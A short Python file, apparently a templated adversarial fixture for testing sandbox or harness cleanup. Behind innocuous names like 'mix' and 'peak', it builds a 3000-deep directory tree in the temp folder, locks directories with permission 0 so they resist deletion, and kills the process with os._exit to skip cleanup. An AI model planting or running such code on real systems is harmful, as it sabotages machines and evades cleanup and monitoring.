import os
import tempfile

HOME = os.getcwd()


def mix(*args):
    os.chdir(tempfile.gettempdir())
    for depth in range(3000):
        os.mkdir("arena-mark")
        os.chdir("arena-mark")
    os.chmod(".", 0)
    os.chdir(HOME)


def peak(scores):
    os.mkdir("arena-mark-closed")
    os.mkdir("arena-mark-closed/inside")
    os.chmod("arena-mark-closed/inside", 0)
    os.chmod("arena-mark-closed", 0)
    os._exit(0)


relay = offset = mix


{{layer}}
